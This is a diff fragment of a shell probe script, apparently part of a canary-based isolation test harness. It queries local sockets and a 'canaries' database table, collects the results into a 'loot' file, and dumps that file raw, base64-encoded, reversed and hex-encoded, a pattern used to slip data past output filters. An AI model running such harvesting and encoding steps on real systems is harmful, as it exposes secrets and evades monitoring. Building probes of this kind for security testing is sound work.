@@ -200,7 +200,8 @@ for family, address in ((socket.AF_INET, ("127.0.0.1", {port})), (socket.AF_UNIX
         print(s.recv(100).decode())
     except OSError as error:
         print(error)' 2>/dev/null | look -
-for try in 1 2 3; do psql "$DATABASE_URL" -Atc "table canaries" 2>&1 && break; sleep 1; done | look -
+tries=1; [ -n "$DATABASE_URL" ] && tries="1 2 3"
+for try in $tries; do psql "$DATABASE_URL" -Atc "table canaries" 2>&1 && break; [ "$tries" = 1 ] || sleep 1; done | look -
 }} | sort -u > "${{TMPDIR:-/tmp}}/loot.$$"
 cat "${{TMPDIR:-/tmp}}/loot.$$"; base64 "${{TMPDIR:-/tmp}}/loot.$$"; rev "${{TMPDIR:-/tmp}}/loot.$$"
 od -An -tx1 "${{TMPDIR:-/tmp}}/loot.$$" | tr -d ' \n'; rm -f "${{TMPDIR:-/tmp}}/loot.$$"
